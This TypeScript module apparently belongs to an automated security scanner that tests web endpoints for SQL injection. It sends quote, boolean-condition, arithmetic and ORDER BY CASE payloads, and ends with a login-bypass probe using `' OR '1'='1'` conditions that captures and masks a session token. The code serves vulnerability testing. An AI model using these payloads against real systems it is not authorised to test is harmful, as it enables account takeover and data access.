import { baseAt, type InjectionPoint, isStable, nameOf, reportSilence, sendAt, submitAt, textAt } from '../injection-points.ts'
import type { Accepted, Probing } from '../probing.ts'
import { isSuccess, jsonOf, normalised, type Reply } from '../reply.ts'
import { sameAnswer } from '../same-answer.ts'
import { tokensOf } from '../session.ts'
import { itemsOf } from '../state.ts'
import { exchangesOf, trialOn } from '../trial-parts.ts'
import { probeSqlColumns } from './sql-columns.ts'
import { probeSqlCursors } from './sql-cursors.ts'
import { probeSqlNames } from './sql-names.ts'
import { probeSqlStored } from './sql-stored.ts'
import { probeSqlStoredBeside } from './sql-stored-beside.ts'
import { byTime } from './sql-time.ts'
import { byUnion, withRows } from './sql-union.ts'

const ERRORS =
  /SQLITE_ERROR|sqlite3?\.(?:Operational|Programming)Error|\b(?:Operational|Programming)Error: (?:near|incomplete input|unrecognized token|no such (?:column|table))|near "[^"]*": syntax error|unrecognized token: "|SQL syntax.{0,40}MySQL|You have an error in your SQL syntax|mysql_fetch|\bER_PARSE_ERROR|PG::SyntaxError|psycopg2\.errors|pg_query\(\)|syntax error at or near "|unterminated quoted string at or near|invalid input syntax for (?:type|integer)|\bORA-\d{5}|Microsoft OLE DB|ODBC SQL Server|SqlException|Unclosed quotation mark|quoted string not properly terminated|SequelizeDatabaseError|QueryFailedError|sqlalchemy\.exc|PrismaClientKnownRequestError.*syntax/i

/** Whether an answer holds the words of a database's parser, also where its quotes are written for JSON or HTML. */
export function tellsError({ body }: Reply): boolean {
  return (
    ERRORS.test(body) ||
    ERRORS.test(
      body
        .slice(0, 100_000)
        .replace(/\\"|&quot;|&#34;/g, '"')
        .replace(/&#39;|&#x27;/g, "'"),
    )
  )
}

const SEARCHES = /search|query|filter|find|lookup/i

/** Replaces each value by ones that only an SQL parser tells apart. */
export async function probeSqlInjection(probing: Probing, points: readonly InjectionPoint[]): Promise<void> {
  let last: { readonly accepted: Accepted; readonly base: Reply } | null = null
  for (const point of points) {
    const { accepted } = point
    // What only reads has one baseline for all its values: each is compared with the request as it was accepted.
    const isKnown = last?.accepted === accepted && accepted.operation.method === 'GET'
    const ask = readsPage(point) ? baseAt : baseOnly
    const base: Reply = last !== null && isKnown ? last.base : await ask(probing, point)
    last = { accepted, base }
    await probePoint(probing, point, base)
  }
  await probeSqlNames(probing)
  await probeSqlColumns(probing)
  await probeSqlStored(probing)
  await probeSqlStoredBeside(probing)
  await probeSqlCursors(probing)
  await probeLogin(probing)
}

async function probePoint(probing: Probing, point: InjectionPoint, base: Reply): Promise<void> {
  const value = textAt(point)
  const quoted = await (readsPage(point) ? sendAt : submitAt)(probing, point, `${value}'`)
  const shown =
    (await byError(probing, point, base, quoted)) ||
    (!isInert(point, base, value, quoted) && ((await byBoolean(probing, point, base)) || (await byArithmetic(probing, point, base)))) ||
    (await byOrdering(probing, point, base)) ||
    (await byUnion(probing, point, base)) ||
    (await byQuotes(probing, point, base, quoted)) ||
    (await byTime(probing, await withRows(probing, point, base)))
  if (shown) return
  reportSilence(probing, 'sqlInjection', point, base, {
    name: 'error, boolean, arithmetic',
    saw: 'no-effect',
    effect: 'quotes and conditions made no difference',
    attempts: [quoted.exchange],
  })
}

/** The request as it was accepted, without the page that it leads to. */
function baseOnly(probing: Probing, point: InjectionPoint): Promise<Reply> {
  return submitAt(probing, point, point.value)
}

/** A form sends the browser on: the page that it leads to is read only where the source says that it is worth it. */
function readsPage({ accepted, hints }: InjectionPoint): boolean {
  return accepted.operation.method === 'GET' || ![302, 303].includes(accepted.reply.status) || hints.has('sql-injection')
}

/**
 * A quote that leaves an answer which shows something as it was never reached a parser: no condition inside the value would either. Nor
 * did one with which something was written as well as without it.
 */
function isInert({ accepted, hints }: InjectionPoint, base: Reply, value: string, quoted: Reply): boolean {
  const isWriting = accepted.operation.method !== 'GET' && !SEARCHES.test(accepted.operation.path)
  if (isWriting && !hints.has('sql-injection') && isSuccess(base) && quoted.status === base.status) return true
  const list = itemsOf(jsonOf(base))
  return isSuccess(base) && base.bytes > 2 && (list === null || list.length > 0) && sameAnswer(quoted, `${value}'`, base, value)
}

/** A quote gives a database error that two quotes do not. */
async function byError(probing: Probing, point: InjectionPoint, base: Reply, one: Reply): Promise<boolean> {
  if (!tellsError(one) || tellsError(base)) return false
  const value = textAt(point)
  const two = await sendAt(probing, point, `${value}''`)
  const again = await sendAt(probing, point, `${value}'`)
  return tell(probing, point, 'error', tellsError(again), base, two, [one, again], 'a single quote gives an error of the database', {})
}

/** A value that ends its statement early gives a database error, the same with its quotes doubled does not: one quote alone was answered as well as two. */
async function byBrokenStatement(probing: Probing, point: InjectionPoint, base: Reply, text: string, first: Reply): Promise<boolean> {
  if (!text.includes("'") || tellsError(base)) return false
  const doubled = await sendAt(probing, point, text.replaceAll("'", "''"))
  if (tellsError(doubled) || doubled.status >= 500) return false
  const again = await sendAt(probing, point, text)
  return tell(
    probing,
    point,
    'error',
    tellsError(again),
    base,
    doubled,
    [first, again],
    'a value that ends the statement gives an error of the database, the same with its quotes doubled gives none',
    {},
  )
}

/** Odd and even numbers of quotes part failure from success; weaker than a condition that decides, and asked when none did. */
async function byQuotes(probing: Probing, point: InjectionPoint, base: Reply, one: Reply): Promise<boolean> {
  if (one.status < 500 || base.status >= 500) return false
  const replies: Reply[] = [one]
  for (const quotes of ["''", "'''", "''''"]) replies.push(await sendAt(probing, point, `${textAt(point)}${quotes}`))
  const failed = replies.map((reply) => reply.status >= 500)
  if (failed.join() !== 'true,false,true,false') return false
  return tell(
    probing,
    point,
    'quotes',
    true,
    base,
    replies[1] ?? null,
    [one, replies[2] ?? one],
    'odd numbers of quotes fail with 5xx, even ones do not',
    {},
  )
}

/** A limit, a conflict or a crash tells nothing of a condition. */
function decides(reply: Reply): boolean {
  return isSuccess(reply) || reply.status === 404
}

interface Context {
  readonly name: string
  /** Value, condition (true or false) and a pair of numbers to write it with. */
  readonly make: (value: string, condition: string) => string
  /** An OR reaches rows that are not ours: only where nothing is written. */
  readonly readsOnly: boolean
}

const CONTEXTS: readonly Context[] = [
  { name: "'…'", make: (value, condition) => `${value}' AND ${condition} -- `, readsOnly: false },
  { name: "'%…%'", make: (value, condition) => `${value}%' AND ${condition} -- `, readsOnly: false },
  { name: "'%…%' closed", make: (value, condition) => `${value}%' AND ${condition} AND '%'='`, readsOnly: false },
  { name: 'number', make: (value, condition) => `${value} AND ${condition}`, readsOnly: false },
  { name: "('…')", make: (value, condition) => `${value}') AND ${condition} -- `, readsOnly: false },
  { name: '"…"', make: (value, condition) => `${value}" AND ${condition} -- `, readsOnly: false },
  { name: "OR '…'", make: (_value, condition) => `zqx' OR ${condition} -- `, readsOnly: true },
  { name: "OR ('%…')", make: (_value, condition) => `zqx%') OR ${condition} -- `, readsOnly: true },
  { name: 'OR number', make: (_value, condition) => `-99 OR ${condition}`, readsOnly: true },
]

/** A handler that takes this long is asked less: everything about it would cost more than all others. */
const SLOW_MS = 700
const MOST_OF_SLOW = 3

async function byBoolean(probing: Probing, point: InjectionPoint, base: Reply): Promise<boolean> {
  if (!isSuccess(base) && base.status !== 404) return false
  const value = textAt(point)
  const isHinted = point.hints.has('sql-injection')
  const isReading = point.accepted.operation.method === 'GET' || SEARCHES.test(point.accepted.operation.path)
  for (const context of isHinted || base.durationMs < SLOW_MS ? CONTEXTS : CONTEXTS.slice(0, MOST_OF_SLOW)) {
    if (context.readsOnly && !isReading) continue
    if (!isHinted && context.name === '"…"') continue
    // An id of the path is looked up as it is; patterns are for what is searched.
    if (!isHinted && point.place.in === 'path' && context.name.includes('%')) continue
    const n = probing.values.number('condition')
    const isTrue = context.make(value, `${n}=${n}`)
    const isFalse = context.make(value, `${n}=${n + 1}`)
    const yes = await sendAt(probing, point, isTrue)
    if (tellsError(yes) && (await byBrokenStatement(probing, point, base, isTrue, yes))) return true
    if (!isSuccess(yes)) continue
    const no = await sendAt(probing, point, isFalse)
    if (!decides(no) || sameAnswer(yes, isTrue, no, isFalse)) continue
    if (!context.readsOnly && !sameAnswer(yes, isTrue, base, value)) continue
    if (!(await isStable(probing, point))) return false
    const m = probing.values.number('condition')
    const yesAgain = await sendAt(probing, point, context.make(value, `${m}=${m}`))
    const noAgain = await sendAt(probing, point, context.make(value, `${m}=${m + 7}`))
    const broken = await sendAt(probing, point, context.make(value, `${m}=`))
    if (!decides(noAgain) || [0, 409, 429].includes(broken.status)) continue
    const after = await baseAt(probing, point)
    const holds =
      sameAnswer(after, value, base, value) &&
      sameAnswer(yes, isTrue, yesAgain, context.make(value, `${m}=${m}`)) &&
      sameAnswer(no, isFalse, noAgain, context.make(value, `${m}=${m + 7}`)) &&
      !sameAnswer(yes, isTrue, broken, context.make(value, `${m}=`))
    if (!holds) continue
    return tell(
      probing,
      point,
      'boolean',
      true,
      base,
      no,
      [yes, yesAgain, no, noAgain],
      `conditions inside the value decide the answer (${context.name}): true ones give ${yes.bytes} bytes, false ones ${no.bytes}, broken ones ${broken.status}`,
      { context: context.name },
    )
  }
  return false
}

/** A sum in place of an id finds the same object, a sum that is one off does not. */
async function byArithmetic(probing: Probing, point: InjectionPoint, base: Reply): Promise<boolean> {
  const value = textAt(point)
  if (!/^\d{1,9}$/.test(value) || !isSuccess(base)) return false
  const n = probing.values.number('sum')
  const rightText = `${Number(value) + n}-${n}`
  const right = await sendAt(probing, point, rightText)
  if (!sameAnswer(right, rightText, base, value)) return false
  const wrongText = `${Number(value) + n}-${n + 1}`
  const wrong = await sendAt(probing, point, wrongText)
  const again = await sendAt(probing, point, `${Number(value) + n + 3}-${n + 3}`)
  const letters = await sendAt(probing, point, `${value}q${n}`)
  if (sameAnswer(wrong, wrongText, base, value) || sameAnswer(letters, `${value}q${n}`, base, value) || !sameAnswer(again, '', base, ''))
    return false
  // Whatever reckons finds the sum; only a database takes a query for the number.
  const selected = await sendAt(probing, point, `(select ${value})`)
  if (!sameAnswer(selected, `(select ${value})`, base, value)) return false
  return tell(
    probing,
    point,
    'arithmetic',
    true,
    base,
    wrong,
    [right, again, selected],
    `${rightText} is calculated: the answer is that for ${value}`,
    {},
  )
}

/** A condition that chooses the order of a list. */
async function byOrdering(probing: Probing, point: InjectionPoint, base: Reply): Promise<boolean> {
  if (!/^(?:sort|order|order_?by|sort_?by|column|dir|direction)$/i.test(point.place.name) || !isSuccess(base)) return false
  for (const column of ['id', 'name', '1'])
    if (await decidesOrder(probing, point, base, (condition) => `(CASE WHEN ${condition} THEN ${column} ELSE -${column} END)`)) return true
  // A column that is looked up may be followed by a direction that is not.
  for (const separator of [':', ' ', ',']) {
    if (!isSuccess(await sendAt(probing, point, `id${separator}desc`))) continue
    const made = (condition: string): string => `id${separator}* (CASE WHEN ${condition} THEN 1 ELSE -1 END)`
    if (await decidesOrder(probing, point, base, made)) return true
  }
  return false
}

async function decidesOrder(probing: Probing, point: InjectionPoint, base: Reply, made: (condition: string) => string): Promise<boolean> {
  const n = probing.values.number('order')
  const ask = (condition: string): Promise<Reply> => sendAt(probing, point, made(condition))
  const yes = await ask(`${n}=${n}`)
  const no = isSuccess(yes) ? await ask(`${n}=${n + 1}`) : yes
  if (!isSuccess(yes) || !isSuccess(no) || normalised(yes.body) === normalised(no.body)) return false
  const yesAgain = await ask(`${n + 2}=${n + 2}`)
  const noAgain = await ask(`${n}=${n + 2}`)
  if (normalised(yes.body) !== normalised(yesAgain.body) || normalised(no.body) !== normalised(noAgain.body)) return false
  return tell(probing, point, 'ordering', true, base, no, [yes, yesAgain], 'a condition inside the value decides the order of the list', {})
}

/** The login with a condition in place of a name. */
async function probeLogin(probing: Probing): Promise<void> {
  const { login, loginField } = probing.identities
  if (login === null) return
  const ask = async (name: string, password = 'Wrong-1-password'): Promise<Reply | null> => {
    probing.client.takeNextAddress()
    return probing.identities.sendLogin({ name, password }, { mayFail: true, identity: 'forged' })
  }
  const stranger = `${probing.values.nonce('stranger')}@example.com`
  const plain = await ask(stranger)
  if (plain === null) return
  const operation = { ...login }
  const parameter = `body ${loginField}`
  const broken = await ask(`${stranger}'`)
  for (const suffix of [' -- ', '/*', '']) {
    const payload = (condition: string): string =>
      suffix === '' ? `${stranger}' OR ${condition} OR '1'='2` : `${stranger}' OR ${condition}${suffix}`
    const yes = await ask(payload("'1'='1'"))
    if (yes === null || !isSuccess(yes) || (tokensOf(yes).access === null && Object.keys(tokensOf(yes).cookies).length === 0)) continue
    const no = await ask(payload("'1'='2'"))
    const again = await ask(payload("'2'='2'"))
    if (no === null || again === null || isSuccess(no) || !isSuccess(again)) continue
    for (const reply of [yes, again]) {
      const token = tokensOf(reply).access
      if (token !== null) probing.client.masking.add(token, '$STOLEN_TOKEN')
    }
    probing.trial(
      'sqlInjection',
      trialOn(operation, {
        name: 'login',
        parameter,
        saw: 'effect',
        effect: 'a true condition in place of the name logs in without a password, a false one does not',
        identity: 'forged',
        baseline: plain.exchange,
        control: no.exchange,
        attempts: exchangesOf(yes, again),
        reproduced: { count: 2, of: 2 },
      }),
    )
    return
  }
  const even = broken !== null && (broken.status >= 500 || tellsError(broken)) ? await ask(`${stranger}''`) : null
  if (broken !== null && even !== null && tellsError(broken) && !tellsError(even)) {
    const again = await ask(`${stranger}'`)
    probing.trial(
      'sqlInjection',
      trialOn(operation, {
        name: 'error',
        parameter,
        saw: 'effect',
        effect: 'a single quote in the name gives an error of the database',
        identity: 'forged',
        baseline: plain.exchange,
        control: even.exchange,
        attempts: exchangesOf(broken, again),
        reproduced: { count: 2, of: 2 },
      }),
    )
    return
  }
  const isBlocked = plain.status === 429 || plain.status === 0
  probing.trial(
    'sqlInjection',
    trialOn(operation, {
      name: 'login',
      parameter,
      saw: isBlocked ? 'blocked' : 'no-effect',
      effect: 'conditions in place of the name made no difference',
      identity: 'forged',
      baseline: plain.exchange,
      attempts: exchangesOf(broken),
    }),
  )
}

function tell(
  probing: Probing,
  point: InjectionPoint,
  name: string,
  isRepeated: boolean,
  base: Reply,
  control: Reply | null,
  attempts: readonly Reply[],
  effect: string,
  details: Readonly<Record<string, string>>,
): boolean {
  probing.trial(
    'sqlInjection',
    trialOn(point.accepted.operation, {
      name,
      parameter: nameOf(point),
      saw: isRepeated ? 'effect' : 'unclear',
      effect,
      identity: point.accepted.session?.name ?? 'anonymous',
      baseline: base.exchange,
      control: control?.exchange ?? null,
      attempts: exchangesOf(...attempts),
      reproduced: { count: isRepeated ? 2 : 1, of: 2 },
      details: { ...details, isHinted: point.hints.has('sql-injection') },
    }),
  )
  return isRepeated
}
